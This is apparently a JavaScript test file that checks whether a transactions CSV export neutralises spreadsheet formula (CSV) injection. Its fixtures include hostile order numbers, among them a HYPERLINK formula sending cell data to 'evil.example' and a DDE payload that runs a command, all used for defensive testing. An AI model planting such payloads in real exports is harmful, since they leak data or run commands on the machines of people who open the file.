// GET /api/v1/transactions/export as a spreadsheet meets it (migration export_csv_formula): a text
// cell starting with = + - @ tab or carriage return is a formula in Excel/LibreOffice/Sheets
// (CSV injection); OWASP: prefix it with a single quote. Numbers stay numbers. Registered by
// api.test.mjs before the database-restart test.
import { test, describe, before } from 'node:test';
import assert from 'node:assert/strict';
import { makeToken, sql, uniqueSuffix, waitFor } from './harness.mjs';

// RFC 4180: rows of cells (quoted cells may hold commas, quotes doubled, CR and LF)
export function parseCsv(text) {
  const rows = [];
  let row = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { cell += '"'; i++; }
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') { row.push(cell); cell = ''; }
    else if (c === '\n') { row.push(cell); rows.push(row); row = []; cell = ''; }
    else if (c === '\r' && text[i + 1] === '\n') { /* CRLF: the LF ends the row */ }
    else cell += c;
  }
  if (cell !== '' || row.length) { row.push(cell); rows.push(row); }
  return rows;
}

export function exportTests(getServer) {
  describe('CSV export: no spreadsheet formula (CSV injection)', () => {
    let server;
    let customer;
    const orders = ['=HYPERLINK("http://evil.example/?"&A1,"open")', '+1+2', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)', '\t=1+1', '\r=1+1',
      '＝1+1', 'ORD-plain', 'ORD=inside', "'already quoted"];
    before(async () => {
      server = await waitFor(() => getServer(), { timeoutMs: 20000, intervalMs: 50 });
      sql(`SELECT setval(pg_get_serial_sequence('customers', 'id'), (SELECT coalesce(max(id), 0) + 1 FROM customers), false);
           SELECT setval(pg_get_serial_sequence('transactions', 'id'), (SELECT coalesce(max(id), 0) + 1 FROM transactions), false);`);
      customer = Number(sql(`INSERT INTO customers (email, name, country) VALUES ('csv-${uniqueSuffix()}@example.com', 'CSV', 'GB') RETURNING id;`));
      // lines of 1..10 units of the first product: enough stock for them (change stock_sales)
      sql('UPDATE products SET stock_quantity = greatest(stock_quantity, 1000000) WHERE id = (SELECT min(id) FROM products);');
      const values = orders.map((o, i) => `(${customer}, (SELECT min(id) FROM products), ${i + 1}, 12.345, 'paypal', 'web', ${sqlText(o)}, 'GB')`);
      sql(`INSERT INTO transactions (customer_id, product_id, quantity, unit_price, payment_method, platform, order_number, country)
           VALUES ${values.join(', ')};`);
    });
    const sqlText = (s) => `'${s.replace(/'/g, "''")}'`;

    test('text cells starting with = + - @ tab or CR get a leading quote; others and numbers are as stored', async () => {
      const res = await fetch(`${server.base}/api/v1/transactions/export?customer_id=${customer}&sort=id`, { headers: { Authorization: `Bearer ${makeToken('viewer')}` } });
      assert.equal(res.status, 200);
      const rows = parseCsv(await res.text());
      const head = rows[0];
      const col = (name) => head.indexOf(name);
      const data = rows.slice(1);
      assert.equal(data.length, orders.length);
      for (let i = 0; i < orders.length; i++) {
        const o = orders[i];
        const cell = data[i][col('order_number')];
        const risky = /^[=+\-@\t\r＝＋－＠]/.test(o);
        assert.equal(cell, risky ? `'${o}` : o, `order number ${JSON.stringify(o)} written as ${JSON.stringify(cell)}`);
        // no cell of the row starts with a formula character any more
        for (const c of data[i]) assert.doesNotMatch(c, /^[=+@\t\r＝＋＠]/, `cell ${JSON.stringify(c)}`);
        // numbers untouched: quantity, unit price, amount as numbers (the JSON API's values)
        assert.equal(data[i][col('quantity')], String(i + 1));
        assert.equal(data[i][col('unit_price')], '12.345');
        assert.equal(Number(data[i][col('amount')]), Number(((i + 1) * 12.345).toFixed(3)));
        assert.match(data[i][col('fraud_score')], /^\d+(\.\d+)?$/);
      }
    });

    test('numbers stay in numeric columns, never through api.csv_text (a negative would get the quote)', () => {
      // a negative number written as text would start with -: the export keeps numbers in numeric columns,
      // so the function is only ever given text columns
      assert.equal(sql(`SELECT pg_get_function_result('api.export_transactions(jsonb)'::regprocedure) ~ 'amount numeric';`), 't');
      assert.equal(sql(`SELECT api.csv_text('-12.5');`), "'-12.5");
      assert.equal(sql(`SELECT count(*) FROM api.export_transactions('{"customer_id":"${customer}"}') WHERE amount < 0 OR unit_price::text LIKE '''%';`), '0');
    });
  });
}
